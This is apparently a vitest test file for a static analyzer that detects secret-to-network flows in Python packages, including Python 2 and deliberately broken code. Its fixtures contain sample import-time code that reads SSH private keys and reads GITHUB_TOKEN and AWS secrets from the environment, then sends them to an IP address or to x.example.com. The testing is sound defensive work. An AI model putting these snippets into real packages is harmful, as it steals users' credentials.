import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

describe("Python 2 and broken code", () => {
  it("analyzes Python 2 syntax", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import urllib, urllib2, os
        print "starting"
        try:
            key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
        except IOError, e:
            key = ''
        exec "x = 1"
        urllib2.urlopen('http://198.51.100.23/u.php', urllib.urlencode({'k': key}))
      `,
    });
    expect(facts.parseProblems).toEqual([]);
    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/__init__.py:4 -> http@pkg/__init__.py:8 http://198.51.100.23/u.php [import]"]);
  });

  it("a file with syntax errors yields facts and a ParseProblem", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        def broken(:
            pass
        requests.post("https://x.example.com", data=os.environ["GITHUB_TOKEN"])
      `,
      "pkg/ok.py": "x = 1\n",
    });
    expect(facts.parseProblems).toHaveLength(1);
    expect(facts.parseProblems[0]!.file).toBe("pkg/__init__.py");
    expect(flowsOf(facts)).toEqual(["env-secret@pkg/__init__.py:4 -> http@pkg/__init__.py:4 https://x.example.com [import]"]);
    expect(facts.filesAnalyzed).toBe(2);
  });

  it("recovers the statements around a broken line that swallows the rest of the file", async () => {
    // A decompiler's stray `else:` at the top of the file: tree-sitter alone turns
    // everything after it into one ERROR node and the flow below is lost.
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        try:
            import json
        except ImportError:
            pass
                else:  # inserted
            json = None

        class Grabber:
            def __init__(self):
                self.url = "https://x.example.com/c"

            def run(self):
                with open(os.path.expanduser("~/.ssh/id_rsa")) as fh:
                    key = fh.read()
                for attempt in range(3):
                    try:
                        requests.post(self.url, data=key)
                    except Exception:
                        pass
                            else:  # inserted
                        break

        Grabber().run()
      `,
    });
    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/__init__.py:14 -> http@pkg/__init__.py:18 https://x.example.com/c [import]"]);
    // Still reported as not fully read, naming the lines that were not.
    expect(facts.parseProblems).toHaveLength(1);
    expect(facts.parseProblems[0]!.message).toMatch(/^syntax error at line \d+, column \d+; lines 5-6, 20-21 not analyzed/);
  });

  it("recovery keeps a function whose signature parses and whose body has a broken statement", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, urllib.request
        def send(data):
            x = = 1
            urllib.request.urlopen("https://x.example.com/u", data)
        send(os.environ["AWS_SECRET_ACCESS_KEY"].encode())
      `,
    });
    expect(flowsOf(facts)).toEqual(["env-secret@pkg/__init__.py:5 -> http@pkg/__init__.py:4 https://x.example.com/u [import]"]);
    expect(facts.parseProblems[0]!.message).toContain("line 3 not analyzed");
  });

  it("recovery invents no flow: broken code between a read and an unrelated send stays unrelated", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        def show():
            print(open(os.path.expanduser("~/.netrc")).read())
                else:
        def ping():
            requests.get("https://x.example.com/ping")
        show()
        ping()
      `,
    });
    expect(flowsOf(facts)).toEqual([]);
    expect(facts.sinks.map((s) => s.destination)).toEqual(["https://x.example.com/ping"]);
  });

  it("survives deep nesting, huge literals and recursion", async () => {
    const deep = "x = " + "(".repeat(3000) + "1" + ")".repeat(3000) + "\n";
    const list = "y = [" + Array.from({ length: 50000 }, (_, i) => i).join(", ") + "]\n";
    const recursion = "def f(n):\n    return f(n - 1) + g(n)\ndef g(n):\n    return f(n)\nf(3)\n";
    const facts = await analyze({ "pkg/a.py": deep, "pkg/b.py": list, "pkg/c.py": recursion });
    expect(facts.filesAnalyzed).toBe(3);
  });

  it("ignores non-Python files and .pth lines that are paths", async () => {
    const facts = await analyze({ "README.md": "import os", "x.pth": "/usr/lib/foo\n" });
    expect(facts.filesAnalyzed).toBe(0);
    expect(facts.parseProblems).toEqual([]);
  });
});

describe("bounded work on real code", () => {
  it("a loop over a list its body appends to (a work queue) runs over the items it started with", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import requests
        path = ""
        queue = ["a", "b"]
        for name in queue:
            path = path + name
            queue.append(name)
        requests.get("https://x.example.com/" + path)
      `,
    });
    expect(facts.sinks.map((s) => s.destination)).toEqual(["https://x.example.com/ab"]);
  });
});
